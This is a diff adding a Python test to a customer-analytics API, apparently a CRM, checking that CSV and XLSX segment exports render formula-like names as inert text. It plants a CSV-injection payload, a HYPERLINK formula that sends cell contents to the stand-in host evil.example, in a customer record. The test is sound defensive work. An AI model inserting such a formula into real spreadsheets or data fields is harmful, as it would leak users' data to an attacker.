@@ -129,3 +129,23 @@ def test_rfm_map_and_migration_through_the_api(api: TestClient, base: dict[str, 
     assert sum(m["customers"] for m in moves if m["source"] == "none") == 1  # c0 bought first only 5 days ago
     bad = api.get("/api/v1/analytics/rfm-migration", params={"start": str(TODAY), "end": str(TODAY)})
     assert bad.status_code == 422 and "after the first" in bad.json()["detail"]
+
+
+def test_export_cells_cannot_run(api: TestClient, app_session: Session, base: dict[str, int]) -> None:
+    """A last name written as a formula is exported as text: an apostrophe in CSV, a string cell in XLSX (item 8)."""
+    from klientura.customers import Customer
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    card = app_session.get(Customer, base["c0"])
+    assert card is not None
+    card.last_name, card.first_name = evil, "@SUM(1+1)"
+    app_session.commit()
+    seg = api.post("/api/v1/segments", json={"name": "Formulas", "rule": BOUGHT}).json()
+    text = api.get(f"/api/v1/segments/{seg['id']}/export").content.decode("utf-8-sig")
+    row = next(r for r in text.splitlines() if r.startswith(f"{base['c0']};"))
+    assert row.split(";")[1:3] == ['"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "'@SUM(1+1)"]
+    xlsx = api.get(f"/api/v1/segments/{seg['id']}/export", params={"format": "xlsx"})
+    ws = load_workbook(io.BytesIO(xlsx.content)).active
+    assert ws is not None
+    got = {r[0].value: r for r in ws.iter_rows(min_row=2)}
+    assert got[base["c0"]][1].value == evil and got[base["c0"]][1].data_type == "s"
